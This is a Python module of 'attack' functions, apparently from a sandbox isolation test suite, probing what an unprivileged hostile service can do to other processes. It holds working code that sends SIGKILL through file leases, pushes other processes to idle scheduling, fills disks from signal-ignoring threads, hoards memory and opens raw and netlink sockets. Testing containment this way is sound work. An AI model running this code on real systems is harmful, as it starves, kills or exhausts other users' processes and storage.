"""What a hostile service tries on others by calls that need no privileges: leases, signals by descriptors, priorities,
space that is reserved, sockets that list those of others."""

import ctypes
import fcntl
import json
import os
import signal
import socket
import sys
import threading

from src.attacks import MEBI, attempt, call, libc, output

X86 = os.uname().machine == "x86_64"
IOPRIO_SET, SET_PARAM, SET_SCHEDULER, SET_ATTR, SET_AFFINITY, PRLIMIT, SET_PRIORITY, IOPRIO_GET, FALLOCATE = (
    (251, 142, 144, 314, 203, 302, 141, 252, 285) if X86 else (30, 118, 119, 274, 122, 261, 140, 31, 47)
)


def attack_leases(text, **_):
    """Makes others wait for files, and has the kernel send them signals."""
    own = output("leased")
    open(own, "wb").close()
    answers = {}
    for path in [*json.loads(text), sys.executable, os.__file__, __file__, own]:
        try:
            file = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        for name, command, value in [
            ("F_SETLEASE read", 1024, fcntl.F_RDLCK),
            ("F_SETLEASE write", 1024, fcntl.F_WRLCK),
            ("F_SETDELEG", 1040, 0),
            ("F_SETOWN", fcntl.F_SETOWN, os.getppid()),
            ("F_SETOWN_EX", 15, 0),
            ("F_SETSIG", 10, signal.SIGKILL),
        ]:
            answers[f"{name} {path}"] = attempt(fcntl.fcntl, file, command, value)
        folder = os.open(os.path.dirname(path), os.O_RDONLY)
        answers[f"F_NOTIFY {path}"] = attempt(fcntl.fcntl, folder, fcntl.F_NOTIFY, fcntl.DN_CREATE)
        os.close(folder)
        os.close(file)
    mine, theirs = socket.socketpair()
    for name, request in ("FIOSETOWN", 0x8901), ("SIOCSPGRP", 0x8902), ("FIOASYNC", 0x5452):
        answers[name] = attempt(fcntl.ioctl, mine, request, os.getppid().to_bytes(4, sys.byteorder))
    theirs.close()
    return answers


def attack_schedule(number, **_):
    """Takes the processors from everyone it can name, by every call there is. Says how often it tried."""
    buffers = [ctypes.create_string_buffer(b) for b in (b"\1" + bytes(127), bytes(64), b"\xc8" + bytes(7) + b"\xc8" + bytes(7))]  # noqa: E501
    one_processor, zero, few = map(ctypes.addressof, buffers)
    others = {*range(1, number), *range(os.getpid() - 64, os.getpid() + 64), os.getppid()} - {os.getpid()}
    tried = 0
    for pid in others:
        if pid <= 0:
            continue
        tried += 1
        call(SET_AFFINITY, pid, 128, one_processor)
        call(SET_SCHEDULER, pid, 5, zero)  # SCHED_IDLE
        call(SET_PARAM, pid, zero)
        call(SET_ATTR, pid, zero, 0)
        call(IOPRIO_SET, 1, pid, 3 << 13)
        call(SET_PRIORITY, 0, pid, 19)
        call(SET_PRIORITY, 1, pid, 19)
        call(PRLIMIT, pid, 7, few, 0)
    call(SET_PRIORITY, 2, os.getuid(), 19)
    call(IOPRIO_SET, 3, os.getuid(), 3 << 13)
    call(IOPRIO_SET, 2, 0, 3 << 13)
    return {"tried": tried}


def attack_standing(**_):
    """How it is scheduled, and how many files it may open."""
    import resource

    return {
        "nice": os.getpriority(os.PRIO_PROCESS, 0),
        "policy": os.sched_getscheduler(0),
        "processors": len(os.sched_getaffinity(0)),
        "input": libc.syscall(ctypes.c_long(IOPRIO_GET), 1, 0),
        "files": resource.getrlimit(resource.RLIMIT_NOFILE)[0],
    }


def attack_reserve(number, **_):
    """Takes space on the disk faster than by writing, and where no limit counts it."""
    answers = {}
    with open(output("reserved"), "wb") as file:
        for mode in (0, 1, 0x10, 0x11, 0x20):
            answers[f"fallocate {mode:#x}"] = call(FALLOCATE, file.fileno(), mode, 0, number)
        space = bytes(8) + bytes(8) + number.to_bytes(8, sys.byteorder) + bytes(24)  # struct space_resv
        for name, request in ("RESVSP", 0x40305828), ("RESVSP64", 0x4030582A), ("ZERO_RANGE", 0x40305839):
            answers[name] = attempt(fcntl.ioctl, file, request, space)
        answers["attributes"] = attempt(os.setxattr, file.fileno(), "user.hoard", b"x" * 1024)
        answers["size to reserve"] = attempt(fcntl.ioctl, file, 0x401C5820, bytes(28))
    os.remove(output("reserved"))
    return answers


def attack_fallback(number, **_):
    """Reserves space by the C library, which writes where it cannot."""
    with open(output("written"), "wb") as file:
        os.posix_fallocate(file.fileno(), 0, number)
    return {"size": os.path.getsize(output("written"))}


def attack_pour(number, **_):
    """Writes as fast as it can into more and more files, deaf to signals, until it is ended."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    piece = bytes(MEBI)

    def pour(thread):
        for n in range(4096):
            try:
                with open(output(f"{thread}-{n}"), "wb", buffering=0) as file:
                    for _ in range(number // MEBI):
                        file.write(piece)
            except OSError:
                pass

    threads = [threading.Thread(target=pour, args=(n,)) for n in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {}


def attack_hoard(number, text, **_):
    """Leaves memory where it may outlive its process."""
    if text == "shared memory":
        libc.shmat.restype = ctypes.c_void_p
        segment = libc.shmget(0x51AD, ctypes.c_size_t(number), 0o1666)
        if segment < 0:
            return {"hoarded": "refused"}
        ctypes.memset(libc.shmat(segment, None, 0), 1, number)
        return {"hoarded": number}
    if text == "unnamed":
        descriptor = os.memfd_create("hoard")
    else:
        descriptor = os.open(os.path.join(os.environ.get(text, text), "hoard"), os.O_CREAT | os.O_WRONLY)
    with open(descriptor, "wb", buffering=0) as file:
        for _ in range(number // MEBI):
            file.write(b"x" * MEBI)
    return {"hoarded": number}


def attack_sockets(**_):
    """Opens sockets that show more than the network of programs."""
    answers = {}
    for name, family, kind, protocol in [
        ("list of sockets", 16, socket.SOCK_RAW, 4),
        ("events of devices", 16, socket.SOCK_RAW, 15),
        ("audit", 16, socket.SOCK_RAW, 9),
        ("events of processes", 16, socket.SOCK_RAW, 11),
        ("firewall", 16, socket.SOCK_RAW, 12),
        ("packets", 17, socket.SOCK_RAW, 0),
        ("packets of old", 2, 10, 0),
        ("raw", 2, socket.SOCK_RAW, 1),
        ("host", 40, socket.SOCK_STREAM, 0),
        ("cryptography", 38, socket.SOCK_SEQPACKET, 0),
        ("keys", 15, socket.SOCK_RAW, 2),
        ("bluetooth", 31, socket.SOCK_RAW, 1),
        ("express data path", 44, socket.SOCK_RAW, 0),
        ("SCTP", 2, socket.SOCK_STREAM, 132),
    ]:
        answers[name] = attempt(lambda f=family, k=kind, p=protocol: socket.socket(f, k, p).close())
    return answers
